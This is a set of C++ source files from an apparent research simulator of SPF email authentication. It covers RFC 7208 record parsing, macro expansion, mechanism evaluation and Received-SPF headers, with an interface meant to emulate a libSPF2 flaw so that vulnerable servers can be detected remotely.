      if (looks_like_spf(joined)) spf_records.push_back(joined);
    }
  }
  if (spf_records.empty()) return Result::None;
  if (spf_records.size() > 1) return Result::PermError;

  const Record* cached = cached_record(spf_records.front());
  if (cached == nullptr) return Result::PermError;
  const Record& record = *cached;

  // 2. Evaluate mechanisms left to right.
  for (const auto& mech : record.mechanisms) {
    bool matched = false;
    const Result mech_result = eval_mechanism(state, domain, mech, matched);
    if (mech_result != Result::None) return mech_result;  // error propagation
    if (matched) {
      const Result r = qualifier_result(mech.qualifier);
      if (r == Result::Fail && explanation != nullptr) {
        if (const auto exp = record.exp()) {
          try {
            MacroContext ctx{state.request.sender_local,
                             state.request.sender_domain,
                             domain,
                             state.request.client_ip,
                             state.request.helo_domain,
                             dns::Name{},
                             state.request.receiver_domain,
                             state.request.timestamp};
            const dns::Name exp_name =
                dns::Name::lenient(expander_.expand(*exp, ctx));
            for (const auto& text : resolver_.txt(exp_name)) {
              *explanation = expander_.expand(text, ctx);
              break;
            }
          } catch (const MacroSyntaxError&) {
            // RFC 7208 section 6.2: exp failures do not alter the result.
          }
        }
      }
      return r;
    }
  }

  // 3. redirect modifier applies only when nothing matched.
  if (const auto redirect = record.redirect()) {
    if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
      return Result::PermError;
    }
    dns::Name redirect_domain;
    try {
      MacroContext ctx{state.request.sender_local,
                       state.request.sender_domain,
                       domain,
                       state.request.client_ip,
                       state.request.helo_domain,
                       dns::Name{},
                       state.request.receiver_domain,
                       state.request.timestamp};
      redirect_domain = dns::Name::lenient(expander_.expand(*redirect, ctx));
    } catch (const MacroSyntaxError&) {
      return Result::PermError;
    }
    const Result r = check_domain(state, redirect_domain, explanation);
    // RFC 7208 section 6.1: None after redirect becomes PermError.
    return r == Result::None ? Result::PermError : r;
  }

  return Result::Neutral;  // default when no mechanism matched (section 4.7)
}

const Record* Evaluator::cached_record(const std::string& text) {
  if (shared_cache_ != nullptr) {
    if (const auto* entry = shared_cache_->lookup(text)) {
      return entry->ok ? &entry->record : nullptr;
    }
    // Cache full: fall through to the private memo.
  }
  const util::Symbol id = record_texts_.intern(text);
  if (id < records_.size()) {
    const CachedRecord& hit = records_[id];
    return hit.ok ? &hit.record : nullptr;
  }
  CachedRecord entry;
  try {
    entry.record = parse_record(text);
    entry.ok = true;
  } catch (const RecordSyntaxError&) {
    entry.ok = false;
  }
  records_.push_back(std::move(entry));
  const CachedRecord& stored = records_.back();
  return stored.ok ? &stored.record : nullptr;
}

const dns::Name& Evaluator::validated_domain(State& state,
                                             const dns::Name& target) {
  if (state.validated_domain_resolved) return state.validated_domain;
  state.validated_domain_resolved = true;

  const dns::Name reverse =
      dns::Name::lenient(state.request.client_ip.reverse_pointer());
  const dns::ResolveResult ptr_result =
      resolver_.query(reverse, dns::RRType::PTR);
  dns::Name any_confirmed;
  int names = 0;
  for (const auto& rr : ptr_result.answers) {
    const auto* ptr = std::get_if<dns::PtrRdata>(&rr.rdata);
    if (ptr == nullptr) continue;
    if (++names > limits_.max_ptr_names) break;
    const dns::RRType qtype = state.request.client_ip.is_v4()
                                  ? dns::RRType::A
                                  : dns::RRType::AAAA;
    const dns::ResolveResult fwd = resolver_.query(ptr->target, qtype);
    bool confirmed = false;
    for (const auto& arr : fwd.answers) {
      if (const auto* a = std::get_if<dns::ARdata>(&arr.rdata)) {
        confirmed |= a->address == state.request.client_ip;
      } else if (const auto* aaaa = std::get_if<dns::AaaaRdata>(&arr.rdata)) {
        confirmed |= aaaa->address == state.request.client_ip;
      }
    }
    if (!confirmed) continue;
    if (ptr->target.is_subdomain_of(target)) {
      state.validated_domain = ptr->target;  // best match: under <target>
      return state.validated_domain;
    }
    if (any_confirmed.empty()) any_confirmed = ptr->target;
  }
  state.validated_domain = any_confirmed;  // may stay empty -> "unknown"
  return state.validated_domain;
}

dns::Name Evaluator::target_name(State& state, const dns::Name& current,
                                 const std::string& domain_spec) {
  if (domain_spec.empty()) return current;
  MacroContext ctx{state.request.sender_local,
                   state.request.sender_domain,
                   current,
                   state.request.client_ip,
                   state.request.helo_domain,
                   dns::Name{},
                   state.request.receiver_domain,
                   state.request.timestamp};
  // The "p" macro triggers a PTR validation of its own (section 7.3);
  // resolve it only when the spec actually uses it.
  if (domain_spec.find("%{p") != std::string::npos ||
      domain_spec.find("%{P") != std::string::npos) {
    ctx.validated_domain = validated_domain(state, current);
  }
  return dns::Name::lenient(expander_.expand(domain_spec, ctx));
}

bool Evaluator::note_void(State& state, const dns::ResolveResult& result) {
  if (result.rcode == dns::Rcode::NxDomain ||
      (result.rcode == dns::Rcode::NoError && result.answers.empty())) {
    if (++state.void_lookups > limits_.max_void_lookups) return false;
  }
  return true;
}

Result Evaluator::eval_mechanism(State& state, const dns::Name& domain,
                                 const Mechanism& mech, bool& matched) {
  matched = false;
  const auto& ip = state.request.client_ip;

  const auto address_matches = [&](const util::IpAddress& candidate) {
    if (candidate.family() != ip.family()) return false;
    int prefix;
    if (ip.is_v4()) {
      prefix = mech.cidr4 >= 0 ? mech.cidr4 : 32;
    } else {
      prefix = mech.cidr6 >= 0 ? mech.cidr6 : 128;
    }
    return ip.in_prefix(candidate, prefix);
  };

  switch (mech.kind) {
    case MechanismKind::All:
      matched = true;
      return Result::None;

    case MechanismKind::Ip4:
    case MechanismKind::Ip6: {
      const auto network = util::IpAddress::parse(mech.network);
      if (!network.has_value()) return Result::PermError;
      matched = address_matches(*network);
      return Result::None;
    }

    case MechanismKind::A: {
      if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
        return Result::PermError;
      }
      dns::Name target;
      try {
        target = target_name(state, domain, mech.domain_spec);
      } catch (const MacroSyntaxError&) {
        return Result::PermError;
      }
      const dns::RRType qtype = ip.is_v4() ? dns::RRType::A : dns::RRType::AAAA;
      const dns::ResolveResult result = resolver_.query(target, qtype);
      if (result.rcode == dns::Rcode::ServFail) return Result::TempError;
      if (!note_void(state, result)) return Result::PermError;
      for (const auto& rr : result.answers) {
        if (const auto* a = std::get_if<dns::ARdata>(&rr.rdata)) {
          if (address_matches(a->address)) matched = true;
        } else if (const auto* aaaa = std::get_if<dns::AaaaRdata>(&rr.rdata)) {
          if (address_matches(aaaa->address)) matched = true;
        }
      }
      return Result::None;
    }

    case MechanismKind::Mx: {
      if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
        return Result::PermError;
      }
      dns::Name target;
      try {
        target = target_name(state, domain, mech.domain_spec);
      } catch (const MacroSyntaxError&) {
        return Result::PermError;
      }
      const dns::ResolveResult mx_result =
          resolver_.query(target, dns::RRType::MX);
      if (mx_result.rcode == dns::Rcode::ServFail) return Result::TempError;
      if (!note_void(state, mx_result)) return Result::PermError;
      int exchanges = 0;
      for (const auto& rr : mx_result.answers) {
        const auto* mx = std::get_if<dns::MxRdata>(&rr.rdata);
        if (mx == nullptr) continue;
        if (++exchanges > limits_.max_mx_exchanges) return Result::PermError;
        const dns::RRType qtype =
            ip.is_v4() ? dns::RRType::A : dns::RRType::AAAA;
        const dns::ResolveResult addr_result =
            resolver_.query(mx->exchange, qtype);
        if (addr_result.rcode == dns::Rcode::ServFail) return Result::TempError;
        for (const auto& arr : addr_result.answers) {
          if (const auto* a = std::get_if<dns::ARdata>(&arr.rdata)) {
            if (address_matches(a->address)) matched = true;
          } else if (const auto* aaaa = std::get_if<dns::AaaaRdata>(&arr.rdata)) {
            if (address_matches(aaaa->address)) matched = true;
          }
        }
      }
      return Result::None;
    }

    case MechanismKind::Ptr: {
      if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
        return Result::PermError;
      }
      dns::Name target;
      try {
        target = target_name(state, domain, mech.domain_spec);
      } catch (const MacroSyntaxError&) {
        return Result::PermError;
      }
      const dns::Name reverse = dns::Name::lenient(ip.reverse_pointer());
      const dns::ResolveResult ptr_result =
          resolver_.query(reverse, dns::RRType::PTR);
      if (ptr_result.rcode == dns::Rcode::ServFail) return Result::TempError;
      if (!note_void(state, ptr_result)) return Result::PermError;
      int names = 0;
      for (const auto& rr : ptr_result.answers) {
        const auto* ptr = std::get_if<dns::PtrRdata>(&rr.rdata);
        if (ptr == nullptr) continue;
        if (++names > limits_.max_ptr_names) break;  // section 5.5: ignore rest
        if (!ptr->target.is_subdomain_of(target)) continue;
        // Forward-confirm the PTR target.
        const dns::RRType qtype =
            ip.is_v4() ? dns::RRType::A : dns::RRType::AAAA;
        const dns::ResolveResult fwd = resolver_.query(ptr->target, qtype);
        for (const auto& arr : fwd.answers) {
          if (const auto* a = std::get_if<dns::ARdata>(&arr.rdata)) {
            if (a->address == ip) matched = true;
          } else if (const auto* aaaa = std::get_if<dns::AaaaRdata>(&arr.rdata)) {
            if (aaaa->address == ip) matched = true;
          }
        }
      }
      return Result::None;
    }

    case MechanismKind::Include: {
      if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
        return Result::PermError;
      }
      dns::Name target;
      try {
        target = target_name(state, domain, mech.domain_spec);
      } catch (const MacroSyntaxError&) {
        return Result::PermError;
      }
      const Result inner = check_domain(state, target, nullptr);
      switch (inner) {
        case Result::Pass:
          matched = true;
          return Result::None;
        case Result::Fail:
        case Result::SoftFail:
        case Result::Neutral:
          return Result::None;  // no match, continue
        case Result::TempError:
          return Result::TempError;
        case Result::None:
        case Result::PermError:
          return Result::PermError;  // section 5.2
      }
      return Result::PermError;
    }

    case MechanismKind::Exists: {
      if (++state.mechanism_lookups > limits_.max_dns_mechanisms) {
        return Result::PermError;
      }
      dns::Name target;
      try {
        target = target_name(state, domain, mech.domain_spec);
      } catch (const MacroSyntaxError&) {
        return Result::PermError;
      }
      // Always an A query, regardless of client family (section 5.7).
      const dns::ResolveResult result = resolver_.query(target, dns::RRType::A);
      if (result.rcode == dns::Rcode::ServFail) return Result::TempError;
      if (!note_void(state, result)) return Result::PermError;
      for (const auto& rr : result.answers) {
        if (std::holds_alternative<dns::ARdata>(rr.rdata)) matched = true;
      }
      return Result::None;
    }
  }
  return Result::PermError;
}

}  // namespace spfail::spf
