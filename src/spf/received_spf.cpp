#include "spf/received_spf.hpp"

namespace spfail::spf {

namespace {

std::string result_comment(const CheckOutcome& outcome,
                           const CheckRequest& request,
                           std::string_view receiver) {
  const std::string sender = request.sender_local + "@" +
                             request.sender_domain.to_string();
  const std::string client = request.client_ip.to_string();
  std::string comment = std::string(receiver) + ": ";
  switch (outcome.result) {
    case Result::Pass:
      return comment + "domain of " + sender + " designates " + client +
             " as permitted sender";
    case Result::Fail:
      return comment + "domain of " + sender + " does not designate " +
             client + " as permitted sender";
    case Result::SoftFail:
      return comment + "domain of transitioning " + sender +
             " discourages use of " + client + " as permitted sender";
    case Result::Neutral:
      return comment + client + " is neither permitted nor denied by domain "
                                "of " +
             sender;
    case Result::None:
      return comment + "domain of " + sender +
             " does not provide an SPF record";
    case Result::TempError:
      return comment + "error in processing during lookup of " + sender;
    case Result::PermError:
      return comment + "permanent error in processing domain of " + sender;
  }
  return comment;
}

}  // namespace

std::string received_spf_header(const CheckOutcome& outcome,
                                const CheckRequest& request,
                                std::string_view receiver) {
  std::string header = "Received-SPF: " + to_string(outcome.result) + " (" +
                       result_comment(outcome, request, receiver) + ")";
  header += " client-ip=" + request.client_ip.to_string() + ";";
  header += " envelope-from=\"" + request.sender_local + "@" +
            request.sender_domain.to_string() + "\";";
  if (!request.helo_domain.empty()) {
    header += " helo=" + request.helo_domain.to_string() + ";";
  }
  return header;
}

CheckOutcome check_helo(Evaluator& evaluator, const util::IpAddress& client_ip,
                        const dns::Name& helo_domain) {
  CheckRequest request;
  request.client_ip = client_ip;
  request.sender_local = "postmaster";
  request.sender_domain = helo_domain;
  request.helo_domain = helo_domain;
  return evaluator.check_host(request);
}

}  // namespace spfail::spf
