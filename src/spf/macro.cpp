#include "spf/macro.hpp"

#include <algorithm>
#include <cctype>

#include "util/encoding.hpp"
#include "util/strings.hpp"

namespace spfail::spf {

namespace {

constexpr std::string_view kMacroLetters = "slodiphcrtv";
constexpr std::string_view kDelimiterChars = ".-+,/_=";

bool is_macro_letter(char c) {
  return kMacroLetters.find(static_cast<char>(std::tolower(
             static_cast<unsigned char>(c)))) != std::string_view::npos;
}

}  // namespace

std::vector<MacroToken> parse_macro_string(std::string_view s) {
  std::vector<MacroToken> tokens;
  std::string literal;

  const auto flush_literal = [&] {
    if (!literal.empty()) {
      tokens.push_back(MacroLiteral{std::move(literal)});
      literal.clear();
    }
  };

  std::size_t i = 0;
  while (i < s.size()) {
    const char c = s[i];
    if (c != '%') {
      literal.push_back(c);
      ++i;
      continue;
    }
    if (i + 1 >= s.size()) {
      throw MacroSyntaxError("macro-string ends with a bare '%'");
    }
    const char next = s[i + 1];
    if (next == '%') {
      literal.push_back('%');
      i += 2;
      continue;
    }
    if (next == '_') {
      literal.push_back(' ');
      i += 2;
      continue;
    }
    if (next == '-') {
      literal.append("%20");
      i += 2;
      continue;
    }
    if (next != '{') {
      throw MacroSyntaxError(std::string("invalid macro escape '%") + next +
                             "'");
    }

    // %{ letter *DIGIT ["r"] *delimiter }
    const std::size_t close = s.find('}', i + 2);
    if (close == std::string_view::npos) {
      throw MacroSyntaxError("unterminated '%{' in macro-string");
    }
    const std::string_view body = s.substr(i + 2, close - (i + 2));
    if (body.empty() || !is_macro_letter(body[0])) {
      throw MacroSyntaxError("unknown macro letter in '%{" + std::string(body) +
                             "}'");
    }
    MacroItem item;
    item.letter = static_cast<char>(std::tolower(static_cast<unsigned char>(body[0])));
    item.url_escape = std::isupper(static_cast<unsigned char>(body[0])) != 0;

    std::size_t j = 1;
    int digits = 0;
    bool has_digits = false;
    while (j < body.size() && std::isdigit(static_cast<unsigned char>(body[j]))) {
      has_digits = true;
      digits = digits * 10 + (body[j] - '0');
      if (digits > 128) throw MacroSyntaxError("digit transformer too large");
      ++j;
    }
    if (has_digits && digits == 0) {
      throw MacroSyntaxError("digit transformer must be positive");
    }
    item.keep = digits;
    if (j < body.size() && (body[j] == 'r' || body[j] == 'R')) {
      item.reverse = true;
      ++j;
    }
    if (j < body.size()) {
      const std::string_view delims = body.substr(j);
      for (char d : delims) {
        if (kDelimiterChars.find(d) == std::string_view::npos) {
          throw MacroSyntaxError("invalid delimiter '" + std::string(1, d) +
                                 "' in macro");
        }
      }
      item.delimiters.assign(delims);
    }
    flush_literal();
    tokens.push_back(item);
    i = close + 1;
  }
  flush_literal();
  return tokens;
}

std::string macro_letter_value(char letter, const MacroContext& ctx) {
  switch (letter) {
    case 's':
      return ctx.sender_local + "@" + ctx.sender_domain.to_string();
    case 'l':
      return ctx.sender_local;
    case 'o':
      return ctx.sender_domain.to_string();
    case 'd':
      return ctx.current_domain.to_string();
    case 'i':
      return ctx.client_ip.spf_macro_form();
    case 'p':
      return ctx.validated_domain.empty() ? "unknown"
                                          : ctx.validated_domain.to_string();
    case 'v':
      return ctx.client_ip.is_v4() ? "in-addr" : "ip6";
    case 'h':
      return ctx.helo_domain.to_string();
    case 'c':
      return ctx.client_ip.to_string();
    case 'r':
      return ctx.receiver_domain.empty() ? "unknown"
                                         : ctx.receiver_domain.to_string();
    case 't':
      return std::to_string(ctx.timestamp);
    default:
      throw MacroSyntaxError(std::string("macro letter '") + letter +
                             "' has no value");
  }
}

std::string apply_transformers(std::string_view value, const MacroItem& item) {
  std::vector<std::string> parts = util::split_any(value, item.delimiters);
  if (item.reverse) std::reverse(parts.begin(), parts.end());
  if (item.keep > 0 && static_cast<std::size_t>(item.keep) < parts.size()) {
    parts.erase(parts.begin(),
                parts.end() - static_cast<std::ptrdiff_t>(item.keep));
  }
  // Re-join with "." regardless of the split delimiters (RFC 7208 §7.3).
  return util::join(parts, ".");
}

std::string Rfc7208Expander::expand(std::string_view macro_string,
                                    const MacroContext& ctx) const {
  std::string out;
  for (const MacroToken& token : parse_macro_string(macro_string)) {
    if (const auto* literal = std::get_if<MacroLiteral>(&token)) {
      out += literal->text;
      continue;
    }
    const auto& item = std::get<MacroItem>(token);
    std::string value =
        apply_transformers(macro_letter_value(item.letter, ctx), item);
    if (item.url_escape) value = util::url_encode(value);
    out += value;
  }
  return out;
}

}  // namespace spfail::spf
