// Fleet-wide shared memo of parsed SPF records (DESIGN.md §16).
//
// Every Evaluator used to keep a private parse memo, so a policy text shared
// by thousands of simulated hosts ("v=spf1 -all", the big providers'
// include chains) was re-parsed and re-stored once per host. The shared cache
// parses each distinct text exactly once per fleet and hands every evaluator
// on every worker thread the same immutable Entry — a ConcurrentTable keyed
// by fnv1a of the record text, with the full-text verify + salted re-probe
// pattern from util::SyncInterner, since texts are wider than 64-bit keys.
//
// Determinism: parsing is a pure function of the text, and entries are
// immutable after publication, so which thread inserts first is invisible to
// every output. The hit/miss counters ARE schedule-dependent (racing inserts
// on the same text both count a miss) — they feed benches only, never
// reports. A full cache degrades, never breaks: lookup() returns nullptr and
// the evaluator falls back to its private memo.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <string>

#include "spf/record.hpp"
#include "util/concurrent_table.hpp"

namespace spfail::spf {

class SharedRecordCache {
 public:
  static constexpr std::size_t kDefaultExpected = 1 << 12;

  explicit SharedRecordCache(std::size_t expected = kDefaultExpected)
      : table_(expected) {}

  SharedRecordCache(const SharedRecordCache&) = delete;
  SharedRecordCache& operator=(const SharedRecordCache&) = delete;

  ~SharedRecordCache();

  // One parsed record, immutable once published. `ok == false` memoises a
  // syntax error (a PermError record stays a PermError record).
  struct Entry {
    std::string text;
    bool ok = false;
    Record record;
  };

  // The memoised parse of `text`, parsing and inserting on first sight.
  // Thread-safe; concurrent callers with the same text converge on one
  // Entry. Returns nullptr when the cache cannot hold the text (table full
  // or salt chain exhausted) — callers fall back to their private memo.
  const Entry* lookup(const std::string& text);

  // Bench-only statistics (schedule-dependent; see header comment).
  std::uint64_t hits() const noexcept {
    return hits_.load(std::memory_order_relaxed);
  }
  std::uint64_t misses() const noexcept {
    return misses_.load(std::memory_order_relaxed);
  }
  std::size_t size() const noexcept { return table_.size(); }

 private:
  static constexpr std::uint64_t kSaltStep = 0x9E3779B97F4A7C15ULL;
  static constexpr int kMaxSalt = 4;

  struct Slot {
    // Written in the table's pre-publication init window; immutable after.
    const Entry* entry = nullptr;
  };

  util::ConcurrentTable<Slot> table_;
  std::atomic<std::uint64_t> hits_{0};
  std::atomic<std::uint64_t> misses_{0};
};

}  // namespace spfail::spf
