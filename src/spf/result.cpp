#include "spf/result.hpp"

namespace spfail::spf {

std::string to_string(Result r) {
  switch (r) {
    case Result::None:
      return "none";
    case Result::Neutral:
      return "neutral";
    case Result::Pass:
      return "pass";
    case Result::Fail:
      return "fail";
    case Result::SoftFail:
      return "softfail";
    case Result::TempError:
      return "temperror";
    case Result::PermError:
      return "permerror";
  }
  return "?";
}

}  // namespace spfail::spf
