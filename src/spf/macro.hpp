// SPF macro strings (RFC 7208 section 7).
//
// Parsing is shared by every expansion engine; *expansion* is behind the
// MacroExpander interface so that the libSPF2 vulnerability emulation and the
// non-RFC-compliant variants observed in the wild (Table 7 of the paper) can
// each substitute their own — the evaluator is oblivious to which engine an
// MTA runs, exactly as a real mail stack is.
#pragma once

#include <memory>
#include <stdexcept>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

#include "dns/name.hpp"
#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::spf {

// One %{...} macro item.
struct MacroItem {
  char letter = 'd';         // lowercase macro letter
  bool url_escape = false;   // letter was uppercase in the source
  int keep = 0;              // digit transformer; 0 = keep all parts
  bool reverse = false;      // 'r' transformer
  std::string delimiters = ".";

  friend bool operator==(const MacroItem&, const MacroItem&) = default;
};

// Literal text between macros, or one of the %%/%_/%- escapes (already
// translated to their literal values "%", " ", "%20").
struct MacroLiteral {
  std::string text;
  friend bool operator==(const MacroLiteral&, const MacroLiteral&) = default;
};

using MacroToken = std::variant<MacroLiteral, MacroItem>;

// Thrown on malformed macro syntax; the evaluator maps this to PermError.
class MacroSyntaxError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

// Parse a macro-string into tokens. Throws MacroSyntaxError on a stray '%',
// an unknown macro letter, or an unterminated "%{".
std::vector<MacroToken> parse_macro_string(std::string_view macro_string);

// Everything a macro can refer to at evaluation time.
struct MacroContext {
  std::string sender_local;   // "l" — local part of MAIL FROM
  dns::Name sender_domain;    // "o" — domain part of MAIL FROM
  dns::Name current_domain;   // "d" — <domain> of the current check_host()
  util::IpAddress client_ip;  // "i"
  dns::Name helo_domain;      // "h"
  dns::Name validated_domain; // "p" (rarely used; "unknown" if empty)
  dns::Name receiver_domain;  // "r" (exp-only)
  util::SimTime timestamp = 0;  // "t" (exp-only)
};

// The raw (untransformed) value of one macro letter.
// Throws MacroSyntaxError for letters invalid in this context.
std::string macro_letter_value(char letter, const MacroContext& ctx);

// The RFC-compliant transformer pipeline: split on the item's delimiters,
// optionally reverse, keep the last `keep` parts, re-join with ".".
std::string apply_transformers(std::string_view value, const MacroItem& item);

// Expansion engine interface.
class MacroExpander {
 public:
  virtual ~MacroExpander() = default;

  // Expand a full macro-string in context. Implementations may be buggy on
  // purpose — that is the point of this interface.
  virtual std::string expand(std::string_view macro_string,
                             const MacroContext& ctx) const = 0;

  // A short stable identifier ("rfc7208", "libspf2-vuln", ...) used in logs
  // and the behaviour census.
  virtual std::string_view id() const noexcept = 0;
};

// The correct, RFC 7208 implementation.
class Rfc7208Expander : public MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "rfc7208"; }
};

}  // namespace spfail::spf
