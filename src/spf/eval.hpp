// check_host() — the SPF evaluation algorithm (RFC 7208 section 4).
//
// The Evaluator is parameterised on a MacroExpander, so the *same* evaluation
// engine drives both correct validators and the buggy ones: a vulnerable
// libSPF2 host differs from a compliant host only in which expander its MTA
// plugs in, and the difference becomes visible as erroneous DNS queries at
// the authoritative server — the paper's remote-detection fingerprint.
#pragma once

#include <deque>
#include <string>

#include "dns/resolver.hpp"
#include "spf/macro.hpp"
#include "spf/record.hpp"
#include "spf/record_cache.hpp"
#include "spf/result.hpp"
#include "util/intern.hpp"

namespace spfail::spf {

struct CheckRequest {
  util::IpAddress client_ip;
  std::string sender_local;  // local part of MAIL FROM ("postmaster" if empty)
  dns::Name sender_domain;   // domain part of MAIL FROM
  dns::Name helo_domain;
  dns::Name receiver_domain;
  util::SimTime timestamp = 0;
};

struct CheckOutcome {
  Result result = Result::None;
  std::string explanation;  // from the exp= modifier on Fail, if resolvable
  int dns_mechanism_lookups = 0;  // a/mx/include/exists/redirect/ptr count
  int void_lookups = 0;
};

struct EvaluatorLimits {
  // RFC 7208 section 4.6.4.
  int max_dns_mechanisms = 10;
  int max_void_lookups = 2;
  int max_mx_exchanges = 10;
  int max_ptr_names = 10;
};

class Evaluator {
 public:
  // All references must outlive the evaluator. `shared_cache` (optional, not
  // owned) is the fleet-wide record-parse memo (DESIGN.md §16): when set,
  // parses are answered from it and the private memo below only catches its
  // overflow; when null every parse stays evaluator-local.
  Evaluator(dns::StubResolver& resolver, const MacroExpander& expander,
            EvaluatorLimits limits = {},
            SharedRecordCache* shared_cache = nullptr)
      : resolver_(resolver),
        expander_(expander),
        limits_(limits),
        shared_cache_(shared_cache) {}

  // Entry point per RFC 7208 section 4.1.
  CheckOutcome check_host(const CheckRequest& request);

  // Parsed-record memo statistics (DESIGN.md §14): every record text the
  // evaluator has seen, interned once; hits are TXT fetches whose parse was
  // answered from the cache (include chains and repeated checks re-fetch the
  // same policy text, but never pay parse allocations twice).
  const util::Interner& record_cache() const noexcept { return record_texts_; }

 private:
  struct State {
    CheckRequest request;
    int mechanism_lookups = 0;
    int void_lookups = 0;
    int recursion_depth = 0;
    // Lazily resolved "p" macro value (PTR + forward confirmation),
    // memoised for the whole check (RFC 7208 section 7.3).
    bool validated_domain_resolved = false;
    dns::Name validated_domain;
  };

  // Resolve the validated domain of the client IP for the "p" macro: take
  // the PTR names, forward-confirm each, prefer a name equal to or under
  // `target`, else any confirmed name. Empty when none validates.
  const dns::Name& validated_domain(State& state, const dns::Name& target);

  Result check_domain(State& state, const dns::Name& domain,
                      std::string* explanation);
  Result eval_mechanism(State& state, const dns::Name& domain,
                        const Mechanism& mech, bool& matched);

  // Expand a domain-spec, falling back to `current` when the spec is empty.
  // Uses lenient name parsing so buggy expansions survive as observable
  // queries instead of being rejected client-side.
  dns::Name target_name(State& state, const dns::Name& current,
                        const std::string& domain_spec);

  // Count one void (NXDOMAIN/empty) answer; returns false when the RFC's
  // void-lookup limit is exceeded.
  bool note_void(State& state, const dns::ResolveResult& result);

  // The parsed form of `text`, memoised across checks for the evaluator's
  // lifetime; nullptr for records with syntax errors (also memoised — a
  // PermError record stays a PermError record). DNS fetches are NOT cached
  // here: the queries are the paper's observable, only parsing is elided.
  const Record* cached_record(const std::string& text);

  dns::StubResolver& resolver_;
  const MacroExpander& expander_;
  EvaluatorLimits limits_;
  SharedRecordCache* shared_cache_ = nullptr;

  // Record-text intern table plus the parse memo it indexes. A deque keeps
  // Record references stable while include recursion appends new entries.
  // With a shared cache attached this only sees its overflow (full table /
  // exhausted salt chain) — parsing is pure, so both paths agree.
  util::Interner record_texts_;
  struct CachedRecord {
    bool ok = false;
    Record record;
  };
  std::deque<CachedRecord> records_;
};

}  // namespace spfail::spf
