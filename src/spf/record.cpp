#include "spf/record.hpp"

#include <algorithm>
#include <cctype>

#include "util/ip.hpp"
#include "util/strings.hpp"

namespace spfail::spf {

std::string to_string(MechanismKind kind) {
  switch (kind) {
    case MechanismKind::All:
      return "all";
    case MechanismKind::Include:
      return "include";
    case MechanismKind::A:
      return "a";
    case MechanismKind::Mx:
      return "mx";
    case MechanismKind::Ptr:
      return "ptr";
    case MechanismKind::Ip4:
      return "ip4";
    case MechanismKind::Ip6:
      return "ip6";
    case MechanismKind::Exists:
      return "exists";
  }
  return "?";
}

std::optional<std::string> Record::modifier(std::string_view name) const {
  for (const auto& m : modifiers) {
    if (m.name == name) return m.value;
  }
  return std::nullopt;
}

std::string Record::to_string() const {
  std::string out = "v=spf1";
  for (const auto& m : mechanisms) {
    out.push_back(' ');
    if (m.qualifier != Qualifier::Pass) {
      out.push_back(static_cast<char>(m.qualifier));
    }
    out += spf::to_string(m.kind);
    if (m.kind == MechanismKind::Ip4 || m.kind == MechanismKind::Ip6) {
      out.push_back(':');
      out += m.network;
    } else if (!m.domain_spec.empty()) {
      out.push_back(':');
      out += m.domain_spec;
    }
    if (m.cidr4 >= 0) out += "/" + std::to_string(m.cidr4);
    if (m.cidr6 >= 0) out += "//" + std::to_string(m.cidr6);
  }
  for (const auto& mod : modifiers) {
    out.push_back(' ');
    out += mod.name + "=" + mod.value;
  }
  return out;
}

bool looks_like_spf(std::string_view txt) {
  if (!txt.starts_with("v=spf1")) return false;
  return txt.size() == 6 || txt[6] == ' ';
}

namespace {

MechanismKind mechanism_kind_from(std::string_view name) {
  const std::string lower = util::to_lower(name);
  if (lower == "all") return MechanismKind::All;
  if (lower == "include") return MechanismKind::Include;
  if (lower == "a") return MechanismKind::A;
  if (lower == "mx") return MechanismKind::Mx;
  if (lower == "ptr") return MechanismKind::Ptr;
  if (lower == "ip4") return MechanismKind::Ip4;
  if (lower == "ip6") return MechanismKind::Ip6;
  if (lower == "exists") return MechanismKind::Exists;
  throw RecordSyntaxError("unknown mechanism '" + std::string(name) + "'");
}

// Parse "/24", "//64", or "/24//64" suffixes off the end of `spec`.
void parse_dual_cidr(std::string& spec, Mechanism& mech) {
  const auto parse_int = [](std::string_view digits, int max) {
    if (digits.empty() || digits.size() > 3) {
      throw RecordSyntaxError("malformed CIDR length");
    }
    int value = 0;
    for (char c : digits) {
      if (!std::isdigit(static_cast<unsigned char>(c))) {
        throw RecordSyntaxError("malformed CIDR length");
      }
      value = value * 10 + (c - '0');
    }
    if (value > max) throw RecordSyntaxError("CIDR length out of range");
    return value;
  };

  const std::size_t dslash = spec.find("//");
  if (dslash != std::string::npos) {
    mech.cidr6 = parse_int(std::string_view(spec).substr(dslash + 2), 128);
    spec.erase(dslash);
  }
  const std::size_t slash = spec.find('/');
  if (slash != std::string::npos) {
    // Parse permissively up to 128 here; the per-mechanism validation below
    // re-checks (an ip6 single-slash CIDR legitimately reaches 128, while
    // a/mx/ip4 must stay within 32).
    mech.cidr4 = parse_int(std::string_view(spec).substr(slash + 1), 128);
    spec.erase(slash);
  }
}

bool is_modifier_term(std::string_view term) {
  // name "=" value, where name starts with a letter and contains only
  // alnum / '-' / '_' / '.'.
  const std::size_t eq = term.find('=');
  if (eq == std::string_view::npos || eq == 0) return false;
  if (!std::isalpha(static_cast<unsigned char>(term[0]))) return false;
  for (char c : term.substr(0, eq)) {
    if (!std::isalnum(static_cast<unsigned char>(c)) && c != '-' && c != '_' &&
        c != '.') {
      return false;
    }
  }
  return true;
}

}  // namespace

Record parse_record(std::string_view txt) {
  if (!looks_like_spf(txt)) {
    throw RecordSyntaxError("record does not start with 'v=spf1'");
  }
  Record record;
  bool saw_redirect = false;

  for (const auto& raw_term : util::split(txt.substr(6), ' ')) {
    const std::string_view term = util::trim(raw_term);
    if (term.empty()) continue;

    if (is_modifier_term(term)) {
      const std::size_t eq = term.find('=');
      Modifier mod;
      mod.name = util::to_lower(term.substr(0, eq));
      mod.value = std::string(term.substr(eq + 1));
      if (mod.name == "redirect") {
        if (saw_redirect) {
          throw RecordSyntaxError("duplicate redirect modifier");
        }
        saw_redirect = true;
      }
      record.modifiers.push_back(std::move(mod));
      continue;
    }

    Mechanism mech;
    std::string_view rest = term;
    switch (rest.front()) {
      case '+':
        mech.qualifier = Qualifier::Pass;
        rest.remove_prefix(1);
        break;
      case '-':
        mech.qualifier = Qualifier::Fail;
        rest.remove_prefix(1);
        break;
